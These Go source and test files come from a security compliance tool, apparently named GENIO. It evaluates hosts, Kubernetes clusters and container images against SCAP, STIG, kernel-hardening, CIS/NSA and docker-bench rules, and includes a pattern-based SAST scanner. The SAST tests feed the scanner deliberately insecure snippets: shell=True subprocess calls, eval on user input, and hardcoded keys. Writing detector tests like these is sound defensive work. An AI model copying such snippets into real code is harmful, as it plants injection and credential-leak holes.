			flag("nsa-etcd-encryption", "Secrets encrypted at rest in etcd", High,
				func(s orchestrator.Settings) (bool, string) {
					return !s.EtcdEncryption, "etcd encryption off"
				}),
			flag("nsa-tls-apiserver", "API server requires TLS", High,
				func(s orchestrator.Settings) (bool, string) {
					return !s.TLSOnAPIServer, "plaintext API server"
				}),
		},
	}
}

// CISKubernetesProfile returns the CIS benchmark subset; it overlaps with
// NSA on RBAC/TLS but adds workload-policy checks the NSA subset lacks —
// the partial-coverage phenomenon of Lesson 5.
func CISKubernetesProfile() ClusterProfile {
	return ClusterProfile{
		Name: "cis-k8s-benchmark",
		Rules: []ClusterRule{
			{
				ID: "cis-rbac", Title: "RBAC authorization enabled", Severity: Critical,
				Check: func(c *orchestrator.Cluster) (Status, string) {
					if !c.Settings.RBACEnabled {
						return Fail, "RBAC disabled"
					}
					return Pass, ""
				},
			},
			{
				ID: "cis-tls-apiserver", Title: "API server requires TLS", Severity: High,
				Check: func(c *orchestrator.Cluster) (Status, string) {
					if !c.Settings.TLSOnAPIServer {
						return Fail, "plaintext API server"
					}
					return Pass, ""
				},
			},
			{
				ID: "cis-no-privileged", Title: "Privileged containers disallowed", Severity: Critical,
				Check: func(c *orchestrator.Cluster) (Status, string) {
					if c.Settings.AllowPrivileged {
						return Fail, "allow-privileged=true"
					}
					return Pass, ""
				},
			},
			{
				ID: "cis-network-policies", Title: "Network policies enforced", Severity: High,
				Check: func(c *orchestrator.Cluster) (Status, string) {
					if !c.Settings.NetworkPoliciesOn {
						return Fail, "no default network policies"
					}
					return Pass, ""
				},
			},
			{
				ID: "cis-image-signing", Title: "Image signature verification enforced", Severity: High,
				Check: func(c *orchestrator.Cluster) (Status, string) {
					if !c.VerifyImageSignatures {
						return Fail, "unsigned images admitted"
					}
					return Pass, ""
				},
			},
		},
	}
}

// EvaluateCluster runs a cluster profile.
func EvaluateCluster(p ClusterProfile, c *orchestrator.Cluster) *Report {
	return p.Evaluate(c.Name, "kubernetes", c)
}

// CombinedClusterCoverage evaluates several cluster profiles and reports
// per-rule-ID union results, showing that individual tools each cover only
// a subset (Lesson 5).
func CombinedClusterCoverage(c *orchestrator.Cluster, profiles ...ClusterProfile) map[string]Status {
	out := make(map[string]Status)
	for _, p := range profiles {
		for _, res := range EvaluateCluster(p, c).Results {
			out[res.RuleID] = res.Status
		}
	}
	return out
}

// DockerBenchProfile returns docker-bench-style image checks (M13
// container hardening).
func DockerBenchProfile() ImageProfile {
	return ImageProfile{
		Name: "docker-bench",
		Rules: []ImageRule{
			{
				ID: "db-nonroot-user", Title: "Container runs as non-root user", Severity: High,
				Check: func(img *container.Image) (Status, string) {
					if img.Config.RunsAsRoot() {
						return Fail, "USER is root"
					}
					return Pass, ""
				},
			},
			{
				ID: "db-no-sys-admin", Title: "CAP_SYS_ADMIN not requested", Severity: Critical,
				Check: func(img *container.Image) (Status, string) {
					if img.Config.HasCapability("CAP_SYS_ADMIN") {
						return Fail, "image requests CAP_SYS_ADMIN"
					}
					return Pass, ""
				},
			},
			{
				ID: "db-no-debug-ports", Title: "No debug ports exposed", Severity: Medium,
				Check: func(img *container.Image) (Status, string) {
					for _, p := range img.Config.ExposedPorts {
						if p == 9229 || p == 5005 || p == 2345 {
							return Fail, fmt.Sprintf("debug port %d exposed", p)
						}
					}
					return Pass, ""
				},
			},
			{
				ID: "db-has-entrypoint", Title: "Explicit entrypoint defined", Severity: Low,
				Check: func(img *container.Image) (Status, string) {
					if len(img.Config.Entrypoint) == 0 {
						return Fail, "no entrypoint"
					}
					return Pass, ""
				},
			},
		},
	}
}

// EvaluateImage runs an image profile.
func EvaluateImage(p ImageProfile, img *container.Image) *Report {
	return p.Evaluate(img.Ref(), "oci", img)
}

// EvaluateImageContext is EvaluateImage with cancellation (see
// Profile.EvaluateContext).
func EvaluateImageContext(ctx context.Context, p ImageProfile, img *container.Image) (*Report, error) {
	return p.EvaluateContext(ctx, img.Ref(), "oci", img)
}
