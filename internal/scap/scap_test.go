package scap

import (
	"testing"

	"genio/internal/host"
)

func TestUnhardenedONLFailsBaseline(t *testing.T) {
	h := host.NewONLOLT("olt-01")
	rep := EvaluateHost(SCAPBaselineProfile(), h)
	_, fail, _, _ := rep.Counts()
	if fail == 0 {
		t.Fatal("fresh ONL host passed the full baseline; fixture or rules broken")
	}
	if rep.Score() >= 1.0 {
		t.Fatalf("Score = %.2f, want < 1.0", rep.Score())
	}
}

func TestHardenedONLPassesBaseline(t *testing.T) {
	h := host.NewONLOLT("olt-01")
	host.HardenONLOLT(h)
	rep := EvaluateHost(SCAPBaselineProfile(), h)
	if fails := rep.Failures(); len(fails) != 0 {
		t.Fatalf("hardened host still fails: %+v", fails)
	}
	if rep.Score() != 1.0 {
		t.Fatalf("Score = %.2f, want 1.0", rep.Score())
	}
}

func TestHardenedONLPassesKernelHardening(t *testing.T) {
	h := host.NewONLOLT("olt-01")
	rep := EvaluateHost(KernelHardeningProfile(), h)
	_, failBefore, _, _ := rep.Counts()
	if failBefore == 0 {
		t.Fatal("permissive kernel config passed hardening checker")
	}
	host.HardenONLOLT(h)
	rep = EvaluateHost(KernelHardeningProfile(), h)
	if fails := rep.Failures(); len(fails) != 0 {
		t.Fatalf("hardened kernel still fails: %+v", fails)
	}
}

func TestSTIGOnONLDegradesToManual(t *testing.T) {
	// Lesson 1: STIGs are authored for mainstream distros; on ONL a chunk
	// of the profile cannot be auto-checked and needs manual adaptation.
	onl := host.NewONLOLT("olt-01")
	ubuntu := host.NewUbuntuServer("u1")

	onlRep := EvaluateHost(STIGProfile(), onl)
	ubuntuRep := EvaluateHost(STIGProfile(), ubuntu)

	_, _, _, onlManual := onlRep.Counts()
	_, _, _, ubuntuManual := ubuntuRep.Counts()
	if onlManual == 0 {
		t.Fatal("STIG on ONL produced no manual-review items; Lesson 1 not reproduced")
	}
	if ubuntuManual >= onlManual {
		t.Fatalf("ubuntu manual items (%d) >= onl (%d); applicability inverted",
			ubuntuManual, onlManual)
	}
}

func TestSeverityOrderingInFailures(t *testing.T) {
	h := host.NewONLOLT("olt-01")
	rep := EvaluateHost(SCAPBaselineProfile(), h)
	fails := rep.Failures()
	for i := 1; i < len(fails); i++ {
		if fails[i].Severity > fails[i-1].Severity {
			t.Fatalf("failures not sorted by severity: %v before %v",
				fails[i-1].Severity, fails[i].Severity)
		}
	}
}

func TestApplicability(t *testing.T) {
	cases := []struct {
		prefixes []string
		platform string
		want     bool
	}{
		{nil, "anything", true},
		{[]string{"ubuntu"}, "ubuntu22.04", true},
		{[]string{"ubuntu"}, "onl-debian10", false},
		{[]string{"ubuntu", "onl"}, "onl-debian10", true},
	}
	for _, c := range cases {
		if got := applies(c.prefixes, c.platform); got != c.want {
			t.Errorf("applies(%v, %q) = %v, want %v", c.prefixes, c.platform, got, c.want)
		}
	}
}

func TestManualFallbackVsNotApplicable(t *testing.T) {
	p := Profile[int]{
		Name: "p",
		Rules: []Rule[int]{
			{ID: "a", AppliesTo: []string{"x"}, ManualFallback: true,
				Check: func(int) (Status, string) { return Pass, "" }},
			{ID: "b", AppliesTo: []string{"x"},
				Check: func(int) (Status, string) { return Pass, "" }},
		},
	}
	rep := p.Evaluate("t", "y", 0)
	if rep.Results[0].Status != Manual {
		t.Fatalf("rule a status = %v, want Manual", rep.Results[0].Status)
	}
	if rep.Results[1].Status != NotApplicable {
		t.Fatalf("rule b status = %v, want NotApplicable", rep.Results[1].Status)
	}
}

func TestScoreAllManual(t *testing.T) {
	p := Profile[int]{Name: "p", Rules: []Rule[int]{
		{ID: "a", AppliesTo: []string{"x"}, ManualFallback: true,
			Check: func(int) (Status, string) { return Pass, "" }},
	}}
	rep := p.Evaluate("t", "y", 0)
	if rep.Score() != 1.0 {
		t.Fatalf("Score with no checkable rules = %v, want 1.0", rep.Score())
	}
}

func TestStatusAndSeverityStrings(t *testing.T) {
	if Pass.String() != "pass" || Status(9).String() != "status(9)" {
		t.Fatal("Status.String mismatch")
	}
	if Critical.String() != "critical" || Severity(9).String() != "severity(9)" {
		t.Fatal("Severity.String mismatch")
	}
}

func TestIterativeHardeningConverges(t *testing.T) {
	// Models the Lesson-1 loop: evaluate, remediate, re-evaluate.
	h := host.NewONLOLT("olt-01")
	profiles := []HostProfile{SCAPBaselineProfile(), KernelHardeningProfile()}
	iterations := 0
	for ; iterations < 5; iterations++ {
		failing := 0
		for _, p := range profiles {
			_, f, _, _ := EvaluateHost(p, h).Counts()
			failing += f
		}
		if failing == 0 {
			break
		}
		host.HardenONLOLT(h)
	}
	if iterations == 0 || iterations >= 5 {
		t.Fatalf("hardening converged in %d iterations, want 1..4", iterations)
	}
}
