package scap

import (
	"fmt"
	"strings"

	"genio/internal/host"
)

// Host-level benchmark profiles (M1 OS configuration, M2 kernel hardening).
// Rule content follows the checks the paper names: OpenSCAP SCAP benchmarks
// (SSH, NTP, APT repositories, kernel file protection), Ubuntu STIGs
// (encryption policy, access restriction, boot configuration), and the
// kernel-hardening-checker baseline (kconfig, cmdline, sysctl).

// HostRule is a convenience alias for host-targeted rules.
type HostRule = Rule[*host.Host]

// HostProfile is a convenience alias for host-targeted profiles.
type HostProfile = Profile[*host.Host]

// EvaluateHost runs a host profile using the host's distro as platform.
func EvaluateHost(p HostProfile, h *host.Host) *Report {
	return p.Evaluate(h.Name, h.Distro, h)
}

func fileContains(h *host.Host, path, needle string) (bool, error) {
	f, err := h.ReadFile(path)
	if err != nil {
		return false, err
	}
	return strings.Contains(string(f.Content), needle), nil
}

// SCAPBaselineProfile returns the OpenSCAP-style OS benchmark GENIO applies
// on every node (M1). These rules are universal: they check behaviour, not
// distro-specific paths.
func SCAPBaselineProfile() HostProfile {
	return HostProfile{
		Name: "scap-os-baseline",
		Rules: []HostRule{
			{
				ID: "ssh-no-root-login", Title: "SSH root login disabled", Severity: High,
				Check: func(h *host.Host) (Status, string) {
					ok, err := fileContains(h, "/etc/ssh/sshd_config", "PermitRootLogin no")
					if err != nil {
						return Manual, "sshd_config not found at standard path"
					}
					if ok {
						return Pass, ""
					}
					return Fail, "PermitRootLogin is not 'no'"
				},
			},
			{
				ID: "ssh-no-password-auth", Title: "SSH password authentication disabled", Severity: High,
				Check: func(h *host.Host) (Status, string) {
					ok, err := fileContains(h, "/etc/ssh/sshd_config", "PasswordAuthentication no")
					if err != nil {
						return Manual, "sshd_config not found at standard path"
					}
					if ok {
						return Pass, ""
					}
					return Fail, "PasswordAuthentication is not 'no'"
				},
			},
			{
				ID: "ntp-enabled", Title: "NTP time synchronization enabled", Severity: Medium,
				Check: func(h *host.Host) (Status, string) {
					if s, ok := h.Service("ntpd"); ok && s.Enabled {
						return Pass, ""
					}
					return Fail, "ntpd not enabled"
				},
			},
			{
				ID: "apt-trusted-repos-only", Title: "No untrusted APT repositories", Severity: High,
				Check: func(h *host.Host) (Status, string) {
					f, err := h.ReadFile("/etc/apt/sources.list")
					if err != nil {
						return Manual, "sources.list not found"
					}
					for _, line := range strings.Split(string(f.Content), "\n") {
						line = strings.TrimSpace(line)
						if line == "" {
							continue
						}
						if !strings.Contains(line, "debian.org") && !strings.Contains(line, "ubuntu.com") {
							return Fail, fmt.Sprintf("untrusted repository: %s", line)
						}
					}
					return Pass, ""
				},
			},
			{
				ID: "no-legacy-cleartext-services", Title: "Legacy cleartext services disabled", Severity: Critical,
				Check: func(h *host.Host) (Status, string) {
					for _, name := range []string{"telnetd", "ftpd"} {
						if s, ok := h.Service(name); ok && s.Enabled {
							return Fail, name + " enabled"
						}
					}
					return Pass, ""
				},
			},
			{
				ID: "no-debug-endpoints", Title: "Vendor debug endpoints disabled", Severity: High,
				Check: func(h *host.Host) (Status, string) {
					if s, ok := h.Service("debug-agent"); ok && s.Enabled {
						return Fail, "debug-agent listening on port " + fmt.Sprint(s.ListenPort)
					}
					return Pass, ""
				},
			},
			{
				ID: "kernel-files-protected", Title: "Kernel and bootloader files not world-readable", Severity: High,
				Check: func(h *host.Host) (Status, string) {
					f, err := h.ReadFile("/boot/grub/grub.cfg")
					if err != nil {
						return Manual, "grub.cfg not found at standard path"
					}
					if f.Mode&0o077 != 0 {
						return Fail, fmt.Sprintf("grub.cfg mode %o too permissive", f.Mode)
					}
					return Pass, ""
				},
			},
			{
				ID: "no-passwordless-accounts", Title: "Interactive accounts use key-based login", Severity: High,
				Check: func(h *host.Host) (Status, string) {
					for _, a := range h.Accounts() {
						if a.PasswordLogin && a.Shell != "/usr/sbin/nologin" {
							return Fail, "account " + a.Name + " allows password login"
						}
					}
					return Pass, ""
				},
			},
		},
	}
}

// STIGProfile returns the Ubuntu-authored STIG subset GENIO aligns to. The
// AppliesTo clauses are the point: on ONL these rules degrade to Manual,
// producing the Lesson-1 adaptation workload.
func STIGProfile() HostProfile {
	return HostProfile{
		Name: "stig-ubuntu",
		Rules: []HostRule{
			{
				ID: "stig-fips-crypto", Title: "System cryptography uses approved modules",
				Severity: High, AppliesTo: []string{"ubuntu"}, ManualFallback: true,
				Check: func(h *host.Host) (Status, string) {
					if v, ok := h.PackageVersion("openssl"); ok && strings.HasPrefix(v, "3.") {
						return Pass, ""
					}
					return Fail, "openssl below approved version line"
				},
			},
			{
				ID: "stig-grub-superusers", Title: "Bootloader requires authentication",
				Severity: High, AppliesTo: []string{"ubuntu", "onl"}, // adapted for ONL during the project
				Check: func(h *host.Host) (Status, string) {
					ok, err := fileContains(h, "/boot/grub/grub.cfg", "set superusers")
					if err != nil {
						return Manual, "grub.cfg not found"
					}
					if ok {
						return Pass, ""
					}
					return Fail, "no grub superusers configured"
				},
			},
			{
				ID: "stig-root-nologin", Title: "Direct root shell disabled",
				Severity: Medium, AppliesTo: []string{"ubuntu", "onl"},
				Check: func(h *host.Host) (Status, string) {
					for _, a := range h.Accounts() {
						if a.UID == 0 && a.Shell != "/usr/sbin/nologin" {
							return Fail, "root has interactive shell"
						}
					}
					return Pass, ""
				},
			},
			{
				ID: "stig-apparmor-enforced", Title: "Mandatory access control enforced",
				Severity: High, AppliesTo: []string{"ubuntu"}, ManualFallback: true,
				Check: func(h *host.Host) (Status, string) {
					if h.KernelConfig("CONFIG_SECURITY_APPARMOR") == "y" {
						return Pass, ""
					}
					return Fail, "AppArmor not built into kernel"
				},
			},
			{
				ID: "stig-aide-installed", Title: "File integrity tool installed",
				Severity: Medium, AppliesTo: []string{"ubuntu"}, ManualFallback: true,
				Check: func(h *host.Host) (Status, string) {
					if _, ok := h.PackageVersion("aide"); ok {
						return Pass, ""
					}
					if _, ok := h.PackageVersion("tripwire"); ok {
						return Pass, ""
					}
					return Fail, "no FIM package installed"
				},
			},
			{
				ID: "stig-disk-encryption", Title: "Persistent storage encrypted at rest",
				Severity: High, AppliesTo: []string{"ubuntu"}, ManualFallback: true,
				Check: func(h *host.Host) (Status, string) {
					if _, ok := h.PackageVersion("cryptsetup"); ok {
						return Pass, ""
					}
					return Fail, "cryptsetup not installed"
				},
			},
		},
	}
}

// KernelHardeningProfile returns the kernel-hardening-checker baseline (M2):
// kconfig, command line, and sysctl checks. Universal across distros.
func KernelHardeningProfile() HostProfile {
	kconfig := func(key, want string, sev Severity, title string) HostRule {
		return HostRule{
			ID: "khc-" + strings.ToLower(strings.TrimPrefix(key, "CONFIG_")), Title: title, Severity: sev,
			Check: func(h *host.Host) (Status, string) {
				if got := h.KernelConfig(key); got != want {
					return Fail, fmt.Sprintf("%s=%s, want %s", key, got, want)
				}
				return Pass, ""
			},
		}
	}
	sysctl := func(key, want string, sev Severity, title string) HostRule {
		return HostRule{
			ID: "khc-sysctl-" + strings.ReplaceAll(key, ".", "-"), Title: title, Severity: sev,
			Check: func(h *host.Host) (Status, string) {
				if got := h.Sysctl(key); got != want {
					return Fail, fmt.Sprintf("%s=%s, want %s", key, got, want)
				}
				return Pass, ""
			},
		}
	}
	return HostProfile{
		Name: "kernel-hardening-checker",
		Rules: []HostRule{
			kconfig("CONFIG_STACKPROTECTOR", "y", High, "Stack protector enabled"),
			kconfig("CONFIG_STACKPROTECTOR_STRONG", "y", High, "Strong stack protector enabled"),
			kconfig("CONFIG_KEXEC", "n", High, "KEXEC runtime kernel replacement disabled"),
			kconfig("CONFIG_KPROBES", "n", Medium, "KPROBES debugging hooks disabled"),
			kconfig("CONFIG_STRICT_KERNEL_RWX", "y", High, "Strict kernel memory permissions"),
			kconfig("CONFIG_RANDOMIZE_BASE", "y", Medium, "KASLR enabled"),
			kconfig("CONFIG_MODULE_SIG", "y", High, "Module signature enforcement"),
			sysctl("kernel.kptr_restrict", "2", Medium, "Kernel pointers hidden"),
			sysctl("kernel.dmesg_restrict", "1", Low, "dmesg restricted"),
			sysctl("kernel.unprivileged_bpf_disabled", "1", High, "Unprivileged BPF disabled"),
			sysctl("net.ipv4.conf.all.rp_filter", "1", Medium, "Reverse path filtering"),
			sysctl("fs.protected_symlinks", "1", Medium, "Symlink protections"),
			{
				ID: "khc-cmdline-mitigations", Title: "Speculative execution mitigations on",
				Severity: High,
				Check: func(h *host.Host) (Status, string) {
					if v := h.BootParam("mitigations"); v == "off" {
						return Fail, "mitigations=off on kernel command line"
					}
					return Pass, ""
				},
			},
			{
				ID: "khc-lsm-enabled", Title: "A Linux Security Module is built in",
				Severity: High,
				Check: func(h *host.Host) (Status, string) {
					if h.KernelConfig("CONFIG_SECURITY_APPARMOR") == "y" ||
						h.KernelConfig("CONFIG_SECURITY_SELINUX") == "y" {
						return Pass, ""
					}
					return Fail, "neither AppArmor nor SELinux enabled"
				},
			},
		},
	}
}
