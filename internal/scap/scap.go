// Package scap implements the configuration-compliance engine GENIO uses
// for OS and middleware hardening: declarative rules grouped into benchmark
// profiles (SCAP benchmarks, STIGs, kernel-hardening-checker baselines,
// Kubernetes hardening guides), evaluated against modelled targets.
//
// It reproduces the Lesson-1 phenomenon directly: profiles carry an
// applicability clause (the distros they were written for), so running a
// mainstream STIG against Open Networking Linux yields rules that are
// not-applicable or demand manual review, quantifying the adaptation work
// the paper reports.
package scap

import (
	"context"
	"fmt"
	"strings"
)

// Status is the outcome of one rule evaluation.
type Status int

// Rule outcomes.
const (
	// Pass means the target satisfies the rule.
	Pass Status = iota + 1
	// Fail means the target violates the rule.
	Fail
	// NotApplicable means the rule targets a different platform.
	NotApplicable
	// Manual means the rule could not be checked automatically on this
	// platform and needs human review (the Lesson-1 adaptation cost).
	Manual
)

var statusNames = map[Status]string{
	Pass:          "pass",
	Fail:          "fail",
	NotApplicable: "n/a",
	Manual:        "manual",
}

// String names the status.
func (s Status) String() string {
	if n, ok := statusNames[s]; ok {
		return n
	}
	return fmt.Sprintf("status(%d)", int(s))
}

// Severity ranks how dangerous a violation is.
type Severity int

// Severities.
const (
	Low Severity = iota + 1
	Medium
	High
	Critical
)

var severityNames = map[Severity]string{
	Low:      "low",
	Medium:   "medium",
	High:     "high",
	Critical: "critical",
}

// String names the severity.
func (s Severity) String() string {
	if n, ok := severityNames[s]; ok {
		return n
	}
	return fmt.Sprintf("severity(%d)", int(s))
}

// Result is one rule's evaluation outcome.
type Result struct {
	RuleID   string   `json:"ruleId"`
	Title    string   `json:"title"`
	Severity Severity `json:"severity"`
	Status   Status   `json:"status"`
	Detail   string   `json:"detail,omitempty"`
}

// Report aggregates a profile evaluation.
type Report struct {
	Profile string   `json:"profile"`
	Target  string   `json:"target"`
	Results []Result `json:"results"`
}

// Counts tallies results by status.
func (r *Report) Counts() (pass, fail, na, manual int) {
	for _, res := range r.Results {
		switch res.Status {
		case Pass:
			pass++
		case Fail:
			fail++
		case NotApplicable:
			na++
		case Manual:
			manual++
		}
	}
	return pass, fail, na, manual
}

// Score returns the pass fraction over automatically checkable rules
// (pass+fail); 1.0 when nothing was checkable.
func (r *Report) Score() float64 {
	pass, fail, _, _ := r.Counts()
	if pass+fail == 0 {
		return 1.0
	}
	return float64(pass) / float64(pass+fail)
}

// Failures returns failing results, highest severity first.
func (r *Report) Failures() []Result {
	var out []Result
	for _, res := range r.Results {
		if res.Status == Fail {
			out = append(out, res)
		}
	}
	for i := 0; i < len(out); i++ {
		for j := i + 1; j < len(out); j++ {
			if out[j].Severity > out[i].Severity {
				out[i], out[j] = out[j], out[i]
			}
		}
	}
	return out
}

// Rule is one declarative check against a target of type T.
type Rule[T any] struct {
	ID       string
	Title    string
	Severity Severity
	// AppliesTo lists platform prefixes the rule was authored for; empty
	// means universal. A platform outside the list evaluates the rule as
	// NotApplicable, or Manual if ManualFallback is set (meaning the rule
	// is conceptually relevant but needs adaptation — Lesson 1).
	AppliesTo      []string
	ManualFallback bool
	Check          func(T) (Status, string)
}

// Profile is a named benchmark: a list of rules for targets of type T.
type Profile[T any] struct {
	Name  string
	Rules []Rule[T]
}

// Evaluate runs every rule against the target. platform is the target's
// platform identifier (e.g. host distro) used for applicability.
func (p Profile[T]) Evaluate(targetName, platform string, target T) *Report {
	rep, _ := p.EvaluateContext(context.Background(), targetName, platform, target)
	return rep
}

// EvaluateContext is Evaluate with cancellation: the context is polled
// between rules, and a done context abandons the evaluation, returning
// the context error with a nil report. Admission pipelines use it so a
// cancelled deployment stops benchmarking immediately.
func (p Profile[T]) EvaluateContext(ctx context.Context, targetName, platform string, target T) (*Report, error) {
	rep := &Report{Profile: p.Name, Target: targetName}
	for _, rule := range p.Rules {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		res := Result{RuleID: rule.ID, Title: rule.Title, Severity: rule.Severity}
		if !applies(rule.AppliesTo, platform) {
			if rule.ManualFallback {
				res.Status = Manual
				res.Detail = fmt.Sprintf("authored for %v; requires manual adaptation on %s",
					rule.AppliesTo, platform)
			} else {
				res.Status = NotApplicable
			}
		} else {
			res.Status, res.Detail = rule.Check(target)
		}
		rep.Results = append(rep.Results, res)
	}
	return rep, nil
}

func applies(prefixes []string, platform string) bool {
	if len(prefixes) == 0 {
		return true
	}
	for _, p := range prefixes {
		if strings.HasPrefix(platform, p) {
			return true
		}
	}
	return false
}
