package scap

import (
	"testing"

	"genio/internal/container"
	"genio/internal/orchestrator"
)

func TestInsecureDefaultsFailNSAProfile(t *testing.T) {
	c := orchestrator.NewCluster("edge", container.NewRegistry(), orchestrator.InsecureDefaults())
	rep := EvaluateCluster(NSAKubernetesProfile(), c)
	_, fail, _, _ := rep.Counts()
	if fail == 0 {
		t.Fatal("insecure defaults passed the NSA profile")
	}
}

func TestHardenedClusterPassesBothProfiles(t *testing.T) {
	c := orchestrator.NewCluster("edge", container.NewRegistry(), orchestrator.HardenedSettings())
	c.VerifyImageSignatures = true
	for _, p := range []ClusterProfile{NSAKubernetesProfile(), CISKubernetesProfile()} {
		rep := EvaluateCluster(p, c)
		if fails := rep.Failures(); len(fails) != 0 {
			t.Fatalf("%s failures on hardened cluster: %+v", p.Name, fails)
		}
	}
}

func TestProfilesOnlyPartiallyOverlap(t *testing.T) {
	// Lesson 5: no single checker covers all risks. The NSA profile misses
	// privileged-container and image-signing policy; CIS misses anonymous
	// auth and etcd encryption.
	nsaIDs := map[string]bool{}
	for _, r := range NSAKubernetesProfile().Rules {
		nsaIDs[r.ID] = true
	}
	cisIDs := map[string]bool{}
	for _, r := range CISKubernetesProfile().Rules {
		cisIDs[r.ID] = true
	}
	if nsaIDs["cis-no-privileged"] || nsaIDs["cis-image-signing"] {
		t.Fatal("NSA profile should not cover privileged/signing checks")
	}
	if cisIDs["nsa-anon-auth"] || cisIDs["nsa-etcd-encryption"] {
		t.Fatal("CIS profile should not cover anon-auth/etcd checks")
	}
}

func TestCombinedCoverageLargerThanEither(t *testing.T) {
	c := orchestrator.NewCluster("edge", container.NewRegistry(), orchestrator.InsecureDefaults())
	nsa := NSAKubernetesProfile()
	cis := CISKubernetesProfile()
	union := CombinedClusterCoverage(c, nsa, cis)
	if len(union) <= len(nsa.Rules) || len(union) <= len(cis.Rules) {
		t.Fatalf("union = %d rules, nsa = %d, cis = %d", len(union), len(nsa.Rules), len(cis.Rules))
	}
}

func TestDockerBenchFlagsBadImages(t *testing.T) {
	rep := EvaluateImage(DockerBenchProfile(), container.CryptominerImage())
	_, fail, _, _ := rep.Counts()
	if fail < 2 { // root + CAP_SYS_ADMIN
		t.Fatalf("cryptominer image failed only %d docker-bench rules", fail)
	}
	rep = EvaluateImage(DockerBenchProfile(), container.IoTGatewayImage())
	found := map[string]bool{}
	for _, f := range rep.Failures() {
		found[f.RuleID] = true
	}
	if !found["db-nonroot-user"] || !found["db-no-debug-ports"] {
		t.Fatalf("iot-gateway findings = %v", found)
	}
}

func TestDockerBenchPassesCleanImage(t *testing.T) {
	rep := EvaluateImage(DockerBenchProfile(), container.AnalyticsImage())
	if fails := rep.Failures(); len(fails) != 0 {
		t.Fatalf("analytics image failed: %+v", fails)
	}
}
