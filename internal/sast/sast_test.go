package sast

import (
	"testing"

	"genio/internal/container"
)

func scanDefault(t *testing.T, img *container.Image) *Report {
	t.Helper()
	return NewScanner(DefaultRules()).Scan(img)
}

func TestFindsPlantedWeaknesses(t *testing.T) {
	rep := scanDefault(t, container.IoTGatewayImage())
	found := map[string]bool{}
	for _, f := range rep.Findings {
		found[f.RuleID] = true
	}
	for _, want := range []string{"hardcoded-credential", "weak-hash", "sql-injection", "tls-verify-disabled"} {
		if !found[want] {
			t.Errorf("missing %s; findings: %+v", want, rep.Findings)
		}
	}
}

func TestFindingsCarryLocation(t *testing.T) {
	rep := scanDefault(t, container.IoTGatewayImage())
	for _, f := range rep.Findings {
		if f.Path == "" || f.Line == 0 || f.Snippet == "" {
			t.Fatalf("finding without location: %+v", f)
		}
	}
}

func TestJavaDeserializationDetected(t *testing.T) {
	rep := scanDefault(t, container.MLInferenceImage())
	var found bool
	for _, f := range rep.Findings {
		if f.RuleID == "unsafe-deserialization" && f.Path == "/app/Inference.java" {
			found = true
		}
	}
	if !found {
		t.Fatalf("ObjectInputStream not flagged; findings: %+v", rep.Findings)
	}
}

func TestCleanImageProducesNoFindings(t *testing.T) {
	rep := scanDefault(t, container.AnalyticsImage())
	if len(rep.Findings) != 0 {
		t.Fatalf("analytics findings = %+v", rep.Findings)
	}
	if rep.FilesScanned == 0 {
		t.Fatal("no files scanned")
	}
}

func TestNonSourceFilesSkipped(t *testing.T) {
	img := &container.Image{
		Name: "bin-only", Tag: "1",
		Layers: []container.Layer{{Files: []container.File{
			{Path: "/data/blob.bin", Content: []byte(`password = "hunter2-hunter2"`)},
		}}},
	}
	rep := scanDefault(t, img)
	if rep.FilesScanned != 0 || len(rep.Findings) != 0 {
		t.Fatalf("binary file scanned: %+v", rep)
	}
}

func TestLanguageScoping(t *testing.T) {
	img := &container.Image{
		Name: "go-app", Tag: "1",
		Layers: []container.Layer{{Files: []container.File{
			// ObjectInputStream in a Go file: the deserialization rule is
			// scoped to java/py and must not fire.
			{Path: "/app/main.go", Content: []byte(`var x = "ObjectInputStream"`)},
		}}},
	}
	rep := scanDefault(t, img)
	for _, f := range rep.Findings {
		if f.RuleID == "unsafe-deserialization" {
			t.Fatalf("language-scoped rule fired on .go file: %+v", f)
		}
	}
}

func TestFalsePositiveTagging(t *testing.T) {
	// Lesson 7: matches in test/example paths are tagged as likely FPs so
	// triage can separate them.
	img := &container.Image{
		Name: "app", Tag: "1",
		Layers: []container.Layer{{Files: []container.File{
			{Path: "/app/main.py", Content: []byte(`API_KEY = "sk_live_realrealreal"`)},
			{Path: "/app/tests/test_auth.py", Content: []byte(`API_KEY = "sk_test_fakefakefake"`)},
			{Path: "/app/examples/demo.py", Content: []byte(`password = "example-password"`)},
		}}},
	}
	rep := scanDefault(t, img)
	if len(rep.Findings) != 3 {
		t.Fatalf("findings = %d, want 3", len(rep.Findings))
	}
	actionable := rep.Actionable()
	if len(actionable) != 1 || actionable[0].Path != "/app/main.py" {
		t.Fatalf("actionable = %+v", actionable)
	}
}

func TestShellInjectionAndEvalRules(t *testing.T) {
	img := &container.Image{
		Name: "app", Tag: "1",
		Layers: []container.Layer{{Files: []container.File{
			{Path: "/app/run.py", Content: []byte("import subprocess\nsubprocess.run(cmd, shell=True)\nresult = eval(user_input)\n")},
		}}},
	}
	rep := scanDefault(t, img)
	found := map[string]bool{}
	for _, f := range rep.Findings {
		found[f.RuleID] = true
	}
	if !found["shell-injection"] || !found["eval-use"] {
		t.Fatalf("findings = %v", found)
	}
}

func TestSeverityString(t *testing.T) {
	if Error.String() != "error" || Severity(9).String() != "severity(9)" {
		t.Fatal("Severity.String mismatch")
	}
}
