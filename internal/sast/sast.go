// Package sast implements static application security testing over the
// source files carried in container images (M13): a pattern-rule engine in
// the role of Semgrep/Bandit for Python and SpotBugs for Java, applied to
// the filesystem extracted from the image (the Crane step in the paper).
//
// Rules are regular-expression patterns with language scoping, like the
// lightweight semantic-grep rules the paper's tools ship. The engine also
// tags findings in test/fixture/documentation paths as likely false
// positives — the Lesson-7 noise that security teams must triage away.
package sast

import (
	"context"
	"fmt"
	"regexp"
	"sort"
	"strings"

	"genio/internal/container"
)

// Severity ranks findings.
type Severity int

// Severities.
const (
	Info Severity = iota + 1
	Warning
	Error
)

var severityNames = map[Severity]string{Info: "info", Warning: "warning", Error: "error"}

// String names the severity.
func (s Severity) String() string {
	if n, ok := severityNames[s]; ok {
		return n
	}
	return fmt.Sprintf("severity(%d)", int(s))
}

// Rule is one static-analysis pattern.
type Rule struct {
	ID       string
	Title    string
	Severity Severity
	// Languages restricts the rule by file extension ("py", "java", ...);
	// empty means all files.
	Languages []string
	Pattern   *regexp.Regexp
}

func (r Rule) appliesTo(path string) bool {
	if len(r.Languages) == 0 {
		return true
	}
	for _, l := range r.Languages {
		if strings.HasSuffix(path, "."+l) {
			return true
		}
	}
	return false
}

// Finding is one matched pattern.
type Finding struct {
	RuleID   string   `json:"ruleId"`
	Title    string   `json:"title"`
	Severity Severity `json:"severity"`
	Path     string   `json:"path"`
	Line     int      `json:"line"`
